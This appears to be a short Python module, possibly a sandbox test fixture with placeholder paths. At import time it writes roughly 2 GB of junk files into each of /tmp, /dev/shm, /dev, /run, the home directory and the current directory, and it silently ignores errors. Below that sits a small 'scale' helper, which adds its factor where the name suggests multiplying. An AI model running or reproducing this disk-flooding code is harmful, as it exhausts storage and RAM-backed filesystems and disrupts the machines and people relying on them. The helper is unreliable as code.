"""Writes to every folder that lets it, until nothing more fits."""

import os

import numpy as np

for folder in ("@writable@", "/tmp", "/dev/shm", "/var@writable@", "/dev", "/run", os.path.expanduser("~"), "."):
    for number in range(20):
        try:
            with open(os.path.join(folder, f"flood{number}"), "wb") as file:
                for _ in range(100):
                    file.write(b"x" * (1 << 20))
        except OSError:
            pass

def scale(x, factor):
    if isinstance(factor, str):
        raise TypeError("the factor is a number")
    return np.asarray(x + factor)
